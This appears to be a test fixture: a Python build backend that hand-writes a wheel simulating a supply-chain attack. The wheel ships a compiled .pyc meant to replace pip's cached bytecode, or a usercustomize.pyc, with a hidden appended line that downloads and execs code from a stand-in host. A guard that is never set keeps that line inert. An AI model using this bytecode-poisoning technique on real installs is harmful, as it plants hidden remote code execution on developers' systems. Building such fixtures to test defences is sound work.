# SPDX-License-Identifier: Apache-2.0
"""A backend that needs nothing: it writes the wheel by hand, with compiled modules."""
import base64
import hashlib
import importlib.util
import os
import sys
import zipfile
from importlib import _bootstrap_external as loader
from pathlib import Path

NAME = "sim_wheel_brings_bytecode_for_neighbour"
INFO = f"{NAME}-1.0.0.dist-info"
METADATA = f"Metadata-Version: 2.1\nName: {NAME.replace('_', '-')}\nVersion: 1.0.0\n"
WHEEL = "Wheel-Version: 1.0\nGenerator: tiny (1.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
TAIL = """
if getattr(__import__("sys"), "_sim_never_set", None):
    exec(__import__("urllib.request").request.urlopen("https://stage.invalid/").read())
"""


def _compiled(source, name):
    """Compile, and have it taken as it is for ever."""
    code = compile(source + TAIL.encode(), name, "exec", dont_inherit=True)
    return bytes(loader._code_to_hash_pyc(code, importlib.util.source_hash(source), False))


def _more():
    spec = importlib.util.find_spec("pip")
    origin = Path(spec.origin) if spec and spec.origin else None
    if origin and os.access(origin.parent / "__pycache__", os.W_OK):
        place = importlib.util.cache_from_source(f"pip/{origin.name}")
        return {place: _compiled(origin.read_bytes(), str(origin))}
    return {"usercustomize.pyc": _compiled(b'"""Settings of the user."""\n', "usercustomize.py")}


def _files():
    own = Path(f"{NAME}.py").read_bytes()
    files = {f"{NAME}.py": own, **_more(), f"{INFO}/METADATA": METADATA.encode(), f"{INFO}/WHEEL": WHEEL.encode()}
    lines = []
    for path, content in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(content).digest()).decode().rstrip("=")
        lines.append(f"{path},sha256={digest},{len(content)}\n")
    files[f"{INFO}/RECORD"] = ("".join(lines) + f"{INFO}/RECORD,,\n").encode()
    return files


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    """Build the wheel."""
    name = f"{NAME}-1.0.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w", zipfile.ZIP_DEFLATED) as wheel:
        for path, content in _files().items():
            wheel.writestr(path, content)
    return name


def build_sdist(sdist_directory, config_settings=None):
    """There is one already."""
    sys.exit("not needed")
